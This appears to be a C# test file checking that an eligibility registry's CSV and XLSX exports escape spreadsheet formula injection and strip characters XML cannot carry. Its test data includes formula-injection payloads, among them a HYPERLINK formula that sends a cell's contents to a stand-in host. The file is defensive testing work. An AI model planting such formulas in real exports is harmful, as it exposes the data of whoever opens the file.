using System.Net;
using Eligibility.Api.Tests.Infrastructure;
using static Eligibility.Api.Tests.ConfirmationArrange;
using static Eligibility.Api.Tests.EligibilityArrange;
using static Eligibility.Api.Tests.Infrastructure.Arrange;

namespace Eligibility.Api.Tests;

/// <summary>
/// What goes out into files is safe: text a spreadsheet would run as a formula is written as text, numbers stay
/// numbers, and characters XML cannot carry (rows written before input refused them) are dropped, not a 500.
/// </summary>
public sealed class ExportSafetyTests(RegistryApi api) : IClassFixture<RegistryApi>
{
    readonly HttpClient official = api.Official(UrbanCommune);

    /// <summary>A draft list of one approved request per borrower name (planted as stored: the API refuses a tab).</summary>
    async Task<Guid> ListOf(string association, params (string Name, string Purpose)[] borrowers)
    {
        var group = await Group(api, await Association(api, UrbanCommune, association), "Tổ TK&VV số 1");
        foreach (var (name, purpose) in borrowers)
        {
            var household = await Household(api, UrbanCommune, api.UrbanVillage, Adult("Nguyễn Văn Tạm", "1980-03-03"));
            await api.Scalar<object>("UPDATE members SET full_name = @name WHERE household_id = @id", ("name", name), ("id", (Guid)household["id"]!));
            await Statuses(api, (Guid)household["id"]!, new StatusSpec("poor", "2025-01-01"));
            await ApprovedRequest(api, household, group, "poor-household", 50_000_000m, purpose);
        }
        var list = await (await official.Post($"/api/v1/communes/{UrbanCommune}/confirmation-lists", new { asOf = "2026-11-01" }))
            .Expect(HttpStatusCode.Created);
        return (Guid)list["id"]!;
    }

    async Task<(List<string[]> Csv, List<string[]> Xlsx)> Exports(Guid list)
    {
        var csv = await official.GetAsync($"/api/v1/confirmation-lists/{list}?format=csv");
        Assert.Equal(HttpStatusCode.OK, csv.StatusCode);
        var xlsx = await official.GetAsync($"/api/v1/confirmation-lists/{list}?format=xlsx");
        Assert.Equal(HttpStatusCode.OK, xlsx.StatusCode);
        return (ExportReader.Csv(await csv.Content.ReadAsByteArrayAsync()), ExportReader.Xlsx(await xlsx.Content.ReadAsByteArrayAsync()));
    }

    [Fact]
    public async Task TextThatLooksLikeAFormula_IsWrittenAsText_AndNumbersStayNumbers()
    {
        const string link = "=HYPERLINK(\"http://example.invalid/?\"&A1,\"Xem\")";
        var id = await ListOf("womens-union", ("+1", link), ("-2", "@SUM(A1:A9)"), ("@SUM(1)", "Chăn nuôi"), ("\tx", "\r=1+1"), ("Ánh", "-Mua bò"));
        var (csv, xlsx) = await Exports(id);

        // Lines are ordered by borrower name; the CSV quotes each such text, the sheet holds it as an inline string.
        var byName = csv.Skip(1).ToDictionary(r => r[1]);
        Assert.Equal("'" + link, byName["'+1"][6]);
        Assert.Equal("'@SUM(A1:A9)", byName["'-2"][6]);
        Assert.Equal("Chăn nuôi", byName["'@SUM(1)"][6]);
        Assert.Equal("'\r=1+1", byName["'\tx"][6]);
        Assert.Equal("'-Mua bò", byName["Ánh"][6]);
        Assert.All(csv.Skip(1), row => Assert.Equal("50000000", row[5]));
        Assert.All(csv.Skip(1), row => Assert.Matches("^[0-9]+$", row[0]));

        var sheet = xlsx.Skip(1).ToDictionary(r => r[1]);
        Assert.Equal(link, sheet["+1"][6]);
        Assert.Equal("@SUM(A1:A9)", sheet["-2"][6]);
        Assert.Contains("\tx", sheet.Keys);
        Assert.All(xlsx.Skip(1), row => Assert.Equal("50000000", row[5]));
    }

    [Fact]
    public async Task ACharacterXmlCannotCarry_IsDroppedFromTheFiles()
    {
        var id = await ListOf("farmers-union", ("Lê\u0001 Văn\u001f Bảy\ufffe", "Chăn\u0008 nuôi"));
        var (csv, xlsx) = await Exports(id);

        Assert.Equal(["Lê Văn Bảy", "Chăn nuôi"], [csv[1][1], csv[1][6]]);
        Assert.Equal(["Lê Văn Bảy", "Chăn nuôi"], [xlsx[1][1], xlsx[1][6]]);
    }
}
